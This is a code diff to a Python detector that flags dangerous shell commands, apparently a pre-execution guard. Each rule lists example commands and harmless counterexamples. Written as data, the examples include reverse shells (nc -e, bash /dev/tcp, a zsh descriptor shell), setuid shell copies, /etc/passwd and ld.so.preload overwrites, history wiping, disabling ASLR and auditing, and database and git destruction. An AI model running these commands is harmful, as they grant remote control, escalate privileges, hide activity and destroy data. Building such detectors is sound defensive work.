@@ -423,20 +423,37 @@ _SHELL_BINARIES = re.compile(
     "permissions",
     CRITICAL,
     "makes {} setuid: anyone could get a root shell",
-    examples=("chmod u+s /bin/bash", "chmod 4755 /bin/sh", "chmod +s /usr/bin/python3"),
-    counterexamples=("chmod u+x /bin/mytool", "chmod 755 /bin/sh"),
+    examples=(
+        "chmod u+s /bin/bash",
+        "chmod 4755 /bin/sh",
+        "chmod +s /usr/bin/python3",
+        "sudo install -m 4755 /bin/bash /usr/local/bin/.sh",
+    ),
+    counterexamples=("chmod u+x /bin/mytool", "chmod 755 /bin/sh", "install -m 755 build/tool ~/.local/bin/tool"),
 )
 def setuid_shell(cmd: Cmd, ctx: Ctx) -> str | None:
+    setuid = re.compile(r"[0-7]{4}|[ugoa]*\+[rwxXt]*s[rwxXt]*")
+    if cmd.name == "install":
+        # `install -m 4755 /bin/bash /usr/local/bin/.sh`: a setuid copy of a shell
+        args = cmd.args
+        modes = [args[k + 1] for k, a in enumerate(args[:-1]) if a in ("-m", "--mode")]
+        modes += [a.split("=", 1)[1] for a in args if a.startswith("--mode=")] + [
+            a[2:] for a in args if a.startswith("-m") and len(a) > 2
+        ]
+        files = [o for o in cmd.operands if o not in modes]
+        made_setuid = any(setuid.fullmatch(m) and (not m.isdigit() or m[0] in "4567") for m in modes)
+        return files[-1] if made_setuid and any(_SHELL_BINARIES.match(f) for f in files[:-1]) else None
     if cmd.name != "chmod":
         return None
-    mode = next((o for o in cmd.operands if re.fullmatch(r"[0-7]{4}|[ugoa]*\+[rwxXt]*s[rwxXt]*", o)), None)
+    mode = next((o for o in cmd.operands if setuid.fullmatch(o)), None)
     if not mode or (mode.isdigit() and mode[0] not in "4567"):
         return None
     return next((o for o in cmd.operands if _SHELL_BINARIES.match(o)), None)
 
 
 _AUTH_FILES = re.compile(
-    r"^/(private/)?etc/(passwd|shadow|gshadow|group|sudoers|master\.passwd)$|^/etc/sudoers\.d/.*|^/etc/pam\.d/.*"
+    r"^/(private/)?etc/(passwd|shadow|gshadow|group|sudoers|master\.passwd|ld\.so\.preload)$"
+    r"|^/etc/sudoers\.d/.*|^/etc/pam\.d/.*"
 )
 _HOSTS_ETC = re.compile(
     r"^/(private/)?etc/(hosts|fstab|resolv\.conf|ssh/sshd_config|crontab|profile|environment|ld\.so\.preload)$|^/boot/"
@@ -446,13 +463,14 @@ _HOSTS_ETC = re.compile(
 @rule(
     "system-config",
     CRITICAL,
-    "overwrites or deletes {}: logins and sudo would break",
+    "overwrites or deletes {}: logins and sudo (for ld.so.preload, every program) depend on it",
     examples=(
         "echo root::0:0::: > /etc/passwd",
         "cat x > /etc/shadow",
         "rm /etc/sudoers",
         "cp evil /etc/passwd",
         "echo x | tee /etc/sudoers",
+        "echo /tmp/x.so | sudo tee /etc/ld.so.preload",
     ),
     counterexamples=("cat /etc/passwd", "grep root /etc/passwd", "cp /etc/passwd ./passwd.bak"),
 )
@@ -677,15 +695,16 @@ def download_exec(cmd: Cmd, ctx: Ctx) -> str | None:
 
 @rule(
     "remote-access",
-    HIGH,
-    "opens a shell for a remote host ({})",
+    CRITICAL,
+    "opens a shell for a remote host ({}): whoever is there controls this account",
     examples=(
         "nc -e /bin/sh 10.0.0.1 4444",
         "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
         "socat tcp:1.2.3.4:99 exec:/bin/sh",
         "ncat --exec /bin/bash h 1",
+        "zsh -i <&$REPLY >&$REPLY 2>&1",
     ),
-    counterexamples=("nc -zv host 22", "nc -l 8080"),
+    counterexamples=("nc -zv host 22", "nc -l 8080", "bash -i", "sh < install.sh", "exec 3<&0"),
 )
 def reverse_shell(cmd: Cmd, ctx: Ctx) -> str | None:
     if cmd.name in ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd") and (
@@ -699,6 +718,12 @@ def reverse_shell(cmd: Cmd, ctx: Ctx) -> str | None:
             return r.target
     if any(a.startswith(("/dev/tcp/", "/dev/udp/")) for a in cmd.args):
         return next(a for a in cmd.args if a.startswith(("/dev/tcp/", "/dev/udp/")))
+    if cmd.name in SHELLS and "i" in cmd.flags:
+        # an interactive shell reading a descriptor other than the terminal's (zsh's ztcp leaves
+        # the socket's in $REPLY): its commands come from whatever holds that descriptor
+        fed = next((r.target for r in cmd.redirects if r.op == "<&" and r.target not in ("0", "1", "2", "-")), None)
+        if fed is not None:
+            return f"its input is descriptor {fed}"
     return None
 
 
@@ -839,8 +864,8 @@ def firewall_off(cmd: Cmd, ctx: Ctx) -> str | None:
     "anti-forensics",
     HIGH,
     "{} erases your history or scheduled jobs for good",
-    examples=("history -c", "crontab -r", "unset HISTFILE"),
-    counterexamples=("history", "crontab -l", "crontab -e"),
+    examples=("history -c", "crontab -r", "unset HISTFILE", "history clear", "rm -f ~/.local/share/fish/fish_history"),
+    counterexamples=("history", "crontab -l", "crontab -e", "grep ssh ~/.bash_history", "cp ~/.zsh_history ~/hist.bak"),
 )
 def history_wipe(cmd: Cmd, ctx: Ctx) -> str | None:
     if cmd.name == "history" and cmd.has("c", "w") and "c" in cmd.flags:
@@ -849,7 +874,18 @@ def history_wipe(cmd: Cmd, ctx: Ctx) -> str | None:
         return "crontab -r"
     if cmd.name == "unset" and "HISTFILE" in cmd.args:
         return "unset HISTFILE"
+    if cmd.name == "history" and cmd.args[:1] == ["clear"]:
+        return "history clear"  # fish
+    if cmd.name in ("rm", "shred", "truncate") or _writes_to(cmd, lambda p: True):
+        hist = next((p for p in cmd.operands + [r.target for r in cmd.redirects] if _HISTORY_FILE.search(p)), None)
+        if hist is not None and (cmd.name != "truncate" or cmd.has("s")):
+            return f"{cmd.name} {hist}"
     return None
+
+
+_HISTORY_FILE = re.compile(
+    r"(?:^|/)\.(?:bash|zsh|sh|python|mysql|psql|node_repl)_history$|(?:^|/)fish_history$|(?:^|/)\.zhistory$"
+)
 
 
 @rule(
@@ -1020,8 +1056,21 @@ def privileged_container(cmd: Cmd, ctx: Ctx) -> str | None:
     "system",
     HIGH,
     "turns off a security protection ({})",
-    examples=("setenforce 0", "csrutil disable", "sudo spctl --master-disable", "xattr -cr /"),
-    counterexamples=("getenforce", "xattr -l file", "xattr -cr ./MyApp.app"),
+    examples=(
+        "setenforce 0",
+        "csrutil disable",
+        "sudo spctl --master-disable",
+        "xattr -cr /",
+        "sudo sysctl -w kernel.randomize_va_space=0",
+        "auditctl -e 0",
+    ),
+    counterexamples=(
+        "getenforce",
+        "xattr -l file",
+        "xattr -cr ./MyApp.app",
+        "sysctl kernel.randomize_va_space",
+        "sudo sysctl -w vm.swappiness=10",
+    ),
 )
 def security_off(cmd: Cmd, ctx: Ctx) -> str | None:
     if cmd.name == "setenforce" and cmd.operands[:1] in (["0"], ["Permissive"], ["permissive"]):
@@ -1032,7 +1081,20 @@ def security_off(cmd: Cmd, ctx: Ctx) -> str | None:
         return "spctl --master-disable"
     if cmd.name == "xattr" and cmd.has("c", "r", "d") and "r" in cmd.flags:
         return _targets(cmd, ctx, (P.ROOT, P.HOME, P.SYSTEM))
+    if cmd.name == "sysctl":
+        off = next((o for o in cmd.operands if _PROTECTIONS_OFF.fullmatch(o.replace(" ", ""))), None)
+        return f"sysctl {off}" if off else None
+    if cmd.name == "auditctl" and any(cmd.args[k : k + 2] == ["-e", "0"] for k in range(len(cmd.args))):
+        return "auditctl -e 0: the audit log stops"
     return None
+
+
+# kernel settings whose value 0 switches a protection off (address randomisation, pointer hiding,
+# ptrace limits, protected links, module signing …)
+_PROTECTIONS_OFF = re.compile(
+    r"kernel\.(?:randomize_va_space|kptr_restrict|dmesg_restrict|yama\.ptrace_scope|modules_disabled|"
+    r"unprivileged_bpf_disabled|perf_event_paranoid)=0|fs\.protected_(?:symlinks|hardlinks|regular|fifos)=0"
+)
 
 
 @rule("delete", CRITICAL, "{} wipes a Windows drive or system folder")
@@ -1346,3 +1408,109 @@ def remove_core_package(cmd: Cmd, ctx: Ctx) -> str | None:
 
 
 RULES: tuple[Rule, ...] = tuple(_RULES)  # in the order they are defined above
+
+
+@rule(
+    "edit",
+    HIGH,
+    "edits {} in place with no copy to go back to: check the pattern on one file first",
+    examples=(
+        "find . -type f -name '*.js' -exec sed -i 's/var /let /g' {} +",
+        "grep -rl oldName src | xargs sed -i 's/oldName/newName/g'",
+        "sed -i '' 's/foo/bar/g' **/*.swift",
+        "find . -name '*.py' | xargs perl -pi -e 's/a/b/'",
+    ),
+    counterexamples=(
+        "sed -i 's/foo/bar/' notes.txt",
+        "sed -i.bak 's/a/b/' *.conf",
+        "find . -name '*.js' -exec sed -n '1p' {} +",
+        "sed 's/a/b/' **/*.txt",
+    ),
+)
+def mass_edit(cmd: Cmd, ctx: Ctx) -> str | None:
+    """An in-place edit of every file a search finds (find -exec, xargs, `**`): one wrong pattern
+    changes a whole tree, and sed keeps no backup unless it is given a suffix."""
+    args = cmd.args
+    if cmd.name in ("sed", "gsed"):
+        inplace = [k for k, a in enumerate(args) if a in ("-i", "--in-place") or re.fullmatch(r"-[nrEsu]*i", a)]
+        backup = any(a.startswith("--in-place=") or re.fullmatch(r"-i\S+", a) for a in args) or any(
+            k + 1 < len(args) and args[k + 1].startswith(".") and args[k + 1] != "." for k in inplace
+        )
+    elif cmd.name == "perl":
+        # `-pi` edits in place; whatever follows the i is the backup's suffix (`-pi.bak`, even `-pie`)
+        inplace = [k for k, a in enumerate(args) if re.fullmatch(r"-[a-zA-Z]*i\S*", a)]
+        backup = any(re.fullmatch(r"-[a-zA-Z]*i\S+", a) for a in args)
+    else:
+        return None
+    if not inplace or backup:
+        return None
+    if cmd.from_stdin:
+        return "every file listed to it"
+    if "find" in cmd.via:
+        return "every file find matches"
+    return next((f"every file matching {o}" for o in cmd.operands if "**" in o), None)
+
+
+_SQL_LOSES = re.compile(
+    r"\b(?:DROP\s+(?:DATABASE|SCHEMA|TABLE|COLLECTION)|TRUNCATE(?:\s+TABLE)?\s+\w|DELETE\s+FROM\s+[\w.\"`]+\s*(?:;|$))"
+    r"|\.drop(?:Database)?\(\)|\bFLUSH(?:ALL|DB)\b",
+    re.IGNORECASE,
+)
+_DB_CLIENTS = frozenset(
+    "psql mysql mariadb sqlite3 sqlcmd clickhouse-client cqlsh mongo mongosh redis-cli duckdb cockroach".split()
+)
+
+
+@rule(
+    "database",
+    HIGH,
+    "{}: the rows or tables are gone unless there is a backup",
+    examples=(
+        "psql -U postgres -c 'DROP DATABASE app;'",
+        "mysql -e 'TRUNCATE TABLE orders' shop",
+        "sqlite3 app.db 'DELETE FROM users;'",
+        "redis-cli FLUSHALL",
+        "mongosh app --eval 'db.dropDatabase()'",
+    ),
+    counterexamples=(
+        "psql -c 'SELECT count(*) FROM users'",
+        "sqlite3 app.db \"DELETE FROM sessions WHERE expires < date('now')\"",
+        "mysql -e 'SHOW TABLES' shop",
+    ),
+)
+def sql_loses_data(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name not in _DB_CLIENTS:
+        return None
+    m = next((m for a in cmd.args if (m := _SQL_LOSES.search(a))), None)
+    return " ".join(m.group(0).split()).rstrip(";") if m else None
+
+
+@rule(
+    "git",
+    HIGH,
+    "deletes {}, the repository's whole history and unpushed work",
+    examples=("rm -rf .git", "rm -rf ~/code/app/.git/"),
+    counterexamples=("rm -rf .github", "rm .gitignore", "rm -rf .git/hooks/pre-commit.sample"),
+)
+def deletes_git_dir(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name != "rm" or not _recursive(cmd):
+        return None
+    return next((o for o in cmd.operands if P.normalise(o).rsplit("/", 1)[-1] == ".git"), None)
+
+
+@rule(
+    "processes",
+    HIGH,
+    "kills every process of {}, this session and its editors included",
+    examples=('pkill -9 -u "$(id -un)"', "pkill -u alice", "killall -u bob"),
+    counterexamples=("pkill -u alice firefox", "pgrep -u alice", "pkill -HUP -u www-data nginx"),
+)
+def kill_all_of_user(cmd: Cmd, ctx: Ctx) -> str | None:
+    if cmd.name not in ("pkill", "killall", "slay") or _signal(cmd) in _HARMLESS_SIGNALS:
+        return None
+    users = [cmd.args[k + 1] for k, a in enumerate(cmd.args[:-1]) if a in ("-u", "-U", "--user", "--euid", "--uid")]
+    values = set(users) | {
+        cmd.args[k + 1] for k, a in enumerate(cmd.args[:-1]) if a in ("-s", "--signal", "-n", "-g", "-t")
+    }
+    pattern = [o for o in cmd.operands if o not in values]
+    return users[0] if users and not pattern else None
